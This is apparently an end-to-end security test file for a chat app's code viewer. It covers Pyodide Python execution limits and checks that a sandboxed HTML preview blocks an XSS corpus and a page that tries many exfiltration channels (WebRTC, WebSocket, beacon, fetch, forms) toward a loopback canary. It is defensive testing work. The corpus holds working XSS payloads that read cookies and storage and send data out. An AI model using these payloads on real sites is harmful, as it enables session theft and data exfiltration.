/**
 * The code viewer in Chromium (issue 8 item 5 and its security tests): Python run with Pyodide from the app's own
 * origin (stdout, stderr, the last value, a traceback); runaway code stopped by Stop and by the time limit, a huge
 * allocation contained, the app responsive throughout; the HTML preview fed the XSS corpus, with a canary in the
 * app's origin that never fires and a preview that cannot read the app's cookies or IndexedDB nor call /api.
 */
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { PREVIEW_SCRIPTS_OFF } from '../../src/protocol/preview';
import { textReply } from '../unit/server/fake-upstream';
import { launchChromium } from './browser';
import { startCanary } from './canary';
import { FREE_MODEL, chooseModel, openApp, send, useStack } from './stack';

const getStack = useStack();

const fence = (lang: string, code: string) => `\`\`\`${lang}\n${code}\n\`\`\``;

/** A conversation whose reply holds the given code blocks; returns the page. */
async function conversationWith(context: BrowserContext, blocks: string[]): Promise<Page> {
  getStack().upstream.setScript(textReply(`Here you go:\n\n${blocks.join('\n\nand\n\n')}`));
  const page = await openApp(context);
  await page.setViewportSize({ width: 1366, height: 850 });
  await chooseModel(page, FREE_MODEL);
  await send(page, 'Show me some code');
  await page.locator('article[data-role="assistant"][data-status="done"]').waitFor();
  return page;
}

const viewer = (page: Page) => page.getByRole('region', { name: 'Code viewer' });
const status = (page: Page) => viewer(page).getByRole('status');
const output = (page: Page) => viewer(page).getByRole('log', { name: 'Output' });

async function openBlock(page: Page, n: number): Promise<void> {
  await page.getByRole('button', { name: 'Open in viewer' }).nth(n).click();
  await viewer(page).waitFor();
}

async function runPython(page: Page, code: string | null, until: RegExp, timeout = 60_000): Promise<string> {
  if (code !== null) await viewer(page).getByRole('textbox', { name: 'Code' }).fill(code);
  await viewer(page).getByRole('button', { name: 'Run', exact: true }).click();
  await expect.poll(() => status(page).textContent(), { timeout }).toMatch(until);
  return (await output(page).textContent()) ?? '';
}

/** The page answers: a frame is painted and a typed key lands in the message box within a short time. */
async function assertResponsive(page: Page): Promise<void> {
  const t0 = Date.now();
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => r(null))));
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('');
  await box.pressSequentially('still here');
  await expect.poll(() => box.inputValue(), { timeout: 5000 }).toBe('still here');
  expect(Date.now() - t0).toBeLessThan(5000);
  await box.fill('');
}

describe('code viewer: Python', () => {
  it('runs Python from the app origin only when the viewer opens: stdout, stderr, the last value and a traceback', async () => {
    const context = await getStack().newContext();
    const requests: string[] = [];
    context.on('request', (r) => requests.push(r.url()));
    const page = await conversationWith(context, [
      fence('python', 'import sys\nprint("hello", 6 * 7)\nprint("careful", file=sys.stderr)\n{"squares": [n * n for n in range(4)]}'),
      fence('', 'def ratio(a, b):\n    return a / b\n\nprint("before")\nratio(1, 0)'),
    ]);
    // Nothing of Pyodide before the viewer opens.
    expect(requests.filter((u) => u.includes('pyodide'))).toEqual([]);

    await openBlock(page, 0);
    await expect.poll(() => status(page).textContent(), { timeout: 60_000 }).toMatch(/^Python ready \(Pyodide \d+\.\d+\.\d+\)$/);
    const out = await runPython(page, null, /^Finished in /);
    expect(out).toBe("hello 42\ncareful\n{'squares': [0, 1, 4, 9]}\n");
    await expect.poll(() => output(page).locator('.out-stderr').textContent()).toBe('careful\n');

    // A block that names no language opens as Python (codeLanguage falls back to python) and raises.
    await openBlock(page, 1);
    await expect.poll(() => viewer(page).getByRole('combobox', { name: 'Language' }).inputValue()).toBe('python');
    const trace = await runPython(page, null, /^Raised an exception after /);
    expect(trace).toContain('before\n');
    expect(trace).toContain('Traceback (most recent call last):');
    expect(trace).toContain('File "<viewer>", line 5, in <module>');
    expect(trace).toContain('File "<viewer>", line 2, in ratio');
    expect(trace).toContain('return a / b');
    expect(trace).toMatch(/ZeroDivisionError: division by zero\n?$/);

    // Edited code runs with Ctrl+Enter from the code box.
    const box = viewer(page).getByRole('textbox', { name: 'Code' });
    await box.fill('print(6 * 7)');
    await box.press('Control+Enter');
    await expect.poll(() => status(page).textContent()).toMatch(/^Finished in /);
    expect(await output(page).textContent()).toBe('42\n');

    // Every Pyodide file came from this origin, under the versioned assets folder; nothing from another host.
    const origin = new URL(getStack().url).origin;
    const pyodideFiles = requests.filter((u) => u.includes('pyodide'));
    expect(pyodideFiles.length).toBeGreaterThanOrEqual(4);
    for (const u of pyodideFiles) expect(u).toMatch(new RegExp(`^${origin}/assets/pyodide-[\\d.]+/`));
    for (const u of requests) expect(new URL(u).origin === origin || u.startsWith('data:') || u.startsWith('blob:')).toBe(true);
    await context.close();
  });

  it('Stop and the time limit end runaway code (even a loop inside C); a huge allocation is contained; the app stays responsive', async () => {
    const context = await getStack().newContext();
    const page = await conversationWith(context, [fence('python', 'while True:\n    pass')]);
    await openBlock(page, 0);
    await expect.poll(() => status(page).textContent(), { timeout: 60_000 }).toMatch(/^Python ready/);

    // Stop.
    await viewer(page).getByRole('button', { name: 'Run', exact: true }).click();
    await expect.poll(() => status(page).textContent()).toBe('Running…');
    await assertResponsive(page);
    await viewer(page).getByRole('button', { name: 'Stop', exact: true }).click();
    await expect.poll(() => status(page).textContent()).toBe('Stopped');

    // A loop inside C (no bytecode boundary to interrupt at) stops the same way.
    await viewer(page).getByRole('textbox', { name: 'Code' }).fill('sum(range(10 ** 15))');
    await viewer(page).getByRole('button', { name: 'Run', exact: true }).click();
    await expect.poll(() => status(page).textContent(), { timeout: 60_000 }).toBe('Running…');
    await viewer(page).getByRole('button', { name: 'Stop', exact: true }).click();
    await expect.poll(() => status(page).textContent()).toBe('Stopped');

    // The time limit.
    await viewer(page).getByRole('combobox', { name: 'Time limit' }).selectOption({ label: '5 s' });
    const started = Date.now();
    await runPython(page, 'n = 0\nwhile True:\n    n += 1', /^Stopped: the time limit of 5 s was reached$/, 90_000);
    expect(Date.now() - started).toBeGreaterThanOrEqual(5000);
    await assertResponsive(page);

    // A huge allocation (4 GiB of list slots, all the worker's wasm32 memory could ever hold): Python's
    // MemoryError inside the worker; the app is untouched and the next run works.
    const huge = await runPython(page, 'cells = [None] * 2 ** 30', /^Raised an exception after /);
    expect(huge).toMatch(/MemoryError\n?$/);
    await assertResponsive(page);
    expect(await runPython(page, 'print("still alive")', /^Finished in /)).toBe('still alive\n');
    await context.close();
  });
});

/** The XSS corpus: each probe tries to reach the app and reports what happened to the parent (the app's page). */
const CORPUS = `<h1>Preview</h1>
<img src="x" onerror="try{parent.__xssCanary('img onerror')}catch(e){parent.postMessage({probe:'img-onerror',blocked:e.name},'*')}">
<svg onload="try{top.__xssCanary('svg onload')}catch(e){parent.postMessage({probe:'svg-onload',blocked:e.name},'*')}"></svg>
<a id="js-link" href="javascript:try{parent.__xssCanary('javascript: link')}catch(e){parent.postMessage({probe:'javascript-link',blocked:e.name},'*')}">javascript link</a>
<a id="data-link" href="data:text/html,<script>parent.__xssCanary('data: link')</script>">data link</a>
<iframe srcdoc="<script>try{parent.parent.__xssCanary('iframe srcdoc')}catch(e){parent.parent.postMessage({probe:'iframe',blocked:e.name},'*')}</script>"></iframe>
<iframe src="/conversation/new"></iframe>
<div style="background:url('/api/models?probe=css-inline')">css inline</div>
<style>body { background-image: url('/api/models?probe=css-sheet'); }</style>
<script>
  var r = { probe: 'storage' };
  try { r.cookie = document.cookie; } catch (e) { r.cookie = 'blocked:' + e.name; }
  try { indexedDB.open('parley'); r.idb = 'opened'; } catch (e) { r.idb = 'blocked:' + e.name; }
  try { r.local = localStorage.length; } catch (e) { r.local = 'blocked:' + e.name; }
  try { r.parentCookie = parent.document.cookie; } catch (e) { r.parentCookie = 'blocked:' + e.name; }
  try { parent.location.href = '/conversation/pwned'; r.navigate = 'done'; } catch (e) { r.navigate = 'blocked:' + e.name; }
  parent.postMessage(r, '*');
  fetch('/api/session?probe=fetch', { credentials: 'include' })
    .then(function (x) { return x.text(); })
    .then(function (t) { parent.postMessage({ probe: 'fetch', ok: true, body: t.slice(0, 80) }, '*'); },
          function (e) { parent.postMessage({ probe: 'fetch', ok: false, error: String(e) }, '*'); });
  new Image().src = '/api/models?probe=image';
</script>
<meta http-equiv="refresh" content="2;url=/conversation/pwned">`;

describe('code viewer: HTML preview', () => {
  it('runs the XSS corpus in an opaque sandbox: the canary never fires, no cookie, IndexedDB or /api reached', async () => {
    const context = await getStack().newContext();
    // What reached a server: a response came back. (Chromium reports a request the CSP refused as a request that
    // failed with a CSP error, which never left the browser.)
    const probes: string[] = [];
    const refused: string[] = [];
    context.on('response', (r) => {
      if (/[?&]probe=|pwned/.test(r.url())) probes.push(r.url());
    });
    context.on('requestfailed', (r) => {
      if (/[?&]probe=/.test(r.url())) refused.push(`${new URL(r.url()).search} ${r.failure()?.errorText ?? ''}`);
    });
    const page = await conversationWith(context, [fence('html', CORPUS)]);
    await page.evaluate(() => {
      document.cookie = 'app_secret=visible-to-the-app; path=/';
      const w = window as unknown as { __xssCanary: (from: string) => void; __fired: string[]; __reports: unknown[] };
      w.__fired = [];
      w.__reports = [];
      w.__xssCanary = (from) => void w.__fired.push(from);
      window.addEventListener('message', (e) => w.__reports.push(e.data));
    });
    const appUrl = page.url();
    await openBlock(page, 0);
    expect(await viewer(page).getByRole('combobox', { name: 'Language' }).inputValue()).toBe('html');
    await viewer(page).getByRole('button', { name: 'Run', exact: true }).click();

    const frame = page.frameLocator('iframe[title="HTML preview"]');
    await frame.getByRole('heading', { name: 'Preview' }).waitFor();
    const reports = () => page.evaluate(() => (window as unknown as { __reports: { probe?: string }[] }).__reports.filter((r) => r && r.probe));
    await expect.poll(async () => (await reports()).map((r) => r.probe).sort(), { timeout: 60_000 }).toEqual(
      expect.arrayContaining(['fetch', 'img-onerror', 'storage', 'svg-onload'].sort()),
    );
    // Links are clicked as a user would (Chromium does not follow a javascript: link in this sandbox at all; were
    // it to, the script would run in the opaque origin and be refused like the others).
    await frame.locator('#js-link').click();
    await frame.locator('#data-link').click().catch(() => undefined);
    await page.waitForTimeout(2500); // the meta refresh fires after 2 s

    const byProbe = new Map((await reports()).map((r) => [r.probe, r as Record<string, unknown>]));
    // Scripts ran (the preview works), but every reach into the app was refused.
    for (const p of ['img-onerror', 'svg-onload']) expect(byProbe.get(p)?.blocked, p).toBe('SecurityError');
    // A child frame runs no script at all (its inline script has no nonce): not even to be refused.
    expect(byProbe.has('iframe')).toBe(false);
    expect(byProbe.get('javascript-link')?.blocked ?? 'did not run').toMatch(/^(SecurityError|did not run)$/);
    expect(byProbe.get('storage')).toMatchObject({
      cookie: 'blocked:SecurityError',
      idb: 'blocked:SecurityError',
      local: 'blocked:SecurityError',
      parentCookie: 'blocked:SecurityError',
    });
    expect(String(byProbe.get('storage')?.navigate)).toMatch(/^blocked:/);
    expect(byProbe.get('fetch')).toMatchObject({ ok: false });

    // The canary in the app's origin never fired; the app is where it was; no probe request left the preview.
    expect(await page.evaluate(() => (window as unknown as { __fired: string[] }).__fired)).toEqual([]);
    expect(page.url()).toBe(appUrl);
    expect(probes, probes.join(' ')).toEqual([]);
    expect(refused.length).toBeGreaterThanOrEqual(3);
    for (const r of refused) expect(r).toMatch(/csp/i);
    await context.close();
  });

  it('the preview page opened on its own is still an opaque origin with no storage', async () => {
    const context = await getStack().newContext();
    const page = await context.newPage();
    await page.goto('/preview/html');
    expect(await page.evaluate(() => window.origin)).toBe('null');
    expect(await page.evaluate(() => { try { return String(indexedDB.open('parley')); } catch (e) { return (e as Error).name; } })).toBe('SecurityError');
    await context.close();
  });
});

/**
 * A page that tries every way out to the canary's port (issue 15 item 8): WebRTC (STUN, TURN over UDP and TCP,
 * a data channel, an offer set as the local description) from a script that comes first in <head>, from the
 * preview's own realm, from a parsed and a created about:blank frame, from srcdoc frames and from a blob: worker;
 * resource hints, a stylesheet, CSS url(), a form, WebSocket, WebTransport, EventSource, fetch, a beacon, an
 * image, a popup, a meta refresh, a link, and navigations of the top and of the frame itself. Its own script also
 * writes into its own DOM, which must work.
 */
function leakyPage(port: number): string {
  const at = `127.0.0.1:${port}`;
  const rtc = `function rtc(W, label) {
  try {
    var pc = new W.RTCPeerConnection({ iceServers: [{ urls: 'stun:${at}' },
      { urls: 'turn:${at}?transport=udp', username: 'secret-' + label, credential: 'x' },
      { urls: 'turn:${at}?transport=tcp', username: 'secret-' + label, credential: 'x' }] });
    pc.createDataChannel('out');
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(function () { say(label + ': sent'); }, function (e) { say(label + ': ' + e.name); });
  } catch (e) { say(label + ': refused ' + e.name); }
}`;
  return `<!doctype html><html><head>
<script>function say(s) { try { parent.postMessage({ leak: s }, '*'); } catch (e) {} }
${rtc}
rtc(window, 'first script');
var real = window.RTCPeerConnection || window.webkitRTCPeerConnection;
say('RTCPeerConnection: ' + typeof real + ', RTC names: ' + Object.getOwnPropertyNames(window).filter(function (n) { return /RTC/.test(n); }).length);</script>
<link rel="dns-prefetch" href="http://${at}/"><link rel="preconnect" href="http://${at}/">
<link rel="prefetch" href="http://${at}/prefetch"><link rel="stylesheet" href="http://${at}/sheet.css">
<meta http-equiv="refresh" content="1;url=http://${at}/refresh">
<style>body { background: url(http://${at}/css-url); }</style>
</head><body><h1 id="status">Preview</h1>
<a id="out" href="http://${at}/link" ping="http://${at}/ping">a link</a>
<iframe id="parsed"></iframe>
<iframe srcdoc="<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:${at}' }] }).createOffer()</script>"></iframe>
<form id="f" action="http://${at}/form" method="post"><input name="secret" value="x"></form>
<script>
document.getElementById('status').textContent = 'script ran';
rtc(window, 'preview realm');
try { rtc(frames[0], 'parsed frame'); } catch (e) { say('parsed frame: ' + e.name); }
var blank = document.createElement('iframe'); document.body.appendChild(blank);
try { rtc(blank.contentWindow, 'about:blank frame'); } catch (e) { say('about:blank frame: ' + e.name); }
var child = document.createElement('iframe');
child.srcdoc = '<script>' + rtc.toString() + ';function say() {};rtc(window, "srcdoc")<\\/script>';
document.body.appendChild(child);
try {
  var w = new Worker(URL.createObjectURL(new Blob([rtc.toString() + ';function say() {};rtc(self, "worker")'])));
  w.onerror = function () { say('worker refused'); };
} catch (e) { say('worker: ' + e.name); }
var s = document.createElement('script'); s.textContent = rtc.toString() + ';rtc(window, "added script")'; document.head.appendChild(s);
try { window.open('http://${at}/popup'); } catch (e) {}
try { new WebSocket('ws://${at}/ws'); } catch (e) {}
try { new EventSource('http://${at}/events'); } catch (e) {}
try { new WebTransport('https://${at}/transport').ready.catch(function () {}); } catch (e) {}
try { navigator.sendBeacon('http://${at}/beacon', 'secret'); } catch (e) {}
fetch('http://${at}/fetch', { mode: 'no-cors' }).catch(function () {});
new Image().src = 'http://${at}/image';
try { document.getElementById('f').submit(); } catch (e) {}
try { top.location.href = 'http://${at}/top'; } catch (e) {}
say('attempts made');
setTimeout(function () { location.href = 'http://${at}/frame'; }, 1000);
</script></body></html>`;
}

describe('code viewer: the HTML preview cannot talk to anyone', () => {
  /** Runs the leaky page in the viewer; returns the page and the reports its scripts sent to the app. */
  async function runLeakyPage(context: BrowserContext, port: number) {
    const page = await conversationWith(context, [fence('html', leakyPage(port))]);
    await page.evaluate(() => {
      const w = window as unknown as { __leaks: string[] };
      w.__leaks = [];
      window.addEventListener('message', (e: MessageEvent<{ leak?: unknown }>) => {
        if (typeof e.data?.leak === 'string') w.__leaks.push(e.data.leak);
      });
    });
    await openBlock(page, 0);
    await viewer(page).getByRole('button', { name: 'Run', exact: true }).click();
    const leaks = () => page.evaluate(() => (window as unknown as { __leaks: string[] }).__leaks);
    return { page, frame: page.frameLocator('iframe[title="HTML preview"]'), leaks };
  }

  it('a loopback STUN canary hears nothing while a page tries every way out, and the page still runs its own script', async () => {
    const canary = await startCanary();
    try {
      // The canary hears WebRTC from an ordinary page of this browser (the control).
      const control = await getStack().newContext();
      const plain = await control.newPage();
      await plain.goto('/preview/probe.gif');
      await plain.evaluate((port) => {
        const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        pc.createDataChannel('control');
        void pc.createOffer().then((o) => pc.setLocalDescription(o));
      }, canary.port);
      await expect.poll(() => canary.received.filter((r) => r.startsWith('udp')).length, { timeout: 60_000 }).toBeGreaterThan(0);
      await control.close();
      await canary.quiet();
      canary.received.length = 0;

      const context = await getStack().newContext();
      const { page, frame, leaks } = await runLeakyPage(context, canary.port);
      // The page's own script ran and wrote into its own DOM.
      await frame.getByRole('heading', { name: 'script ran' }).waitFor({ timeout: 60_000 });
      await expect.poll(leaks, { timeout: 60_000 }).toContain('attempts made');
      await expect(viewer(page).locator('.html-preview-note').count()).resolves.toBe(0);
      await frame.locator('#out').click();
      // The meta refresh (1 s), the frame's own navigation (1 s after the attempts) and TURN's retries have had
      // their time.
      await page.waitForTimeout(3000);

      // Nothing reached the canary.
      expect(canary.received).toEqual([]);
      const said = await leaks();
      expect(said).toContain('RTCPeerConnection: undefined, RTC names: 0');
      expect(said).toContain('first script: refused TypeError');
      expect(said).toContain('preview realm: refused TypeError');
      expect(said).toContain('about:blank frame: refused SecurityError');
      expect(said).toContain('parsed frame: refused SecurityError');
      expect(said.filter((s) => s.endsWith(' sent'))).toEqual([]);
      // The app's page is alive (a srcdoc child that constructs an RTCPeerConnection under a Connection-Allowlist
      // makes Chromium kill the renderer: the child never gets to run a script).
      expect(await page.evaluate(() => document.title.length >= 0)).toBe(true);
      await viewer(page).waitFor();
      await context.close();
    } finally {
      await canary.close();
    }
  });

  it('in a browser that does not confine the frame (no Connection-Allowlist), the page is shown without its scripts and says so', async () => {
    const canary = await startCanary();
    const browser = await launchChromium(['--disable-features=ConnectionAllowlists']);
    try {
      const context = await browser.newContext({ baseURL: getStack().url });
      const { page, frame, leaks } = await runLeakyPage(context, canary.port);
      await viewer(page).getByText(PREVIEW_SCRIPTS_OFF).waitFor();
      await frame.getByRole('heading', { name: 'Preview' }).waitFor();
      await frame.locator('#out').click();
      await page.waitForTimeout(3000);
      expect(await frame.getByRole('heading').textContent()).toBe('Preview');
      expect(await leaks()).toEqual([]);
      expect(canary.received).toEqual([]);
    } finally {
      await browser.close();
      await canary.close();
    }
  });
});
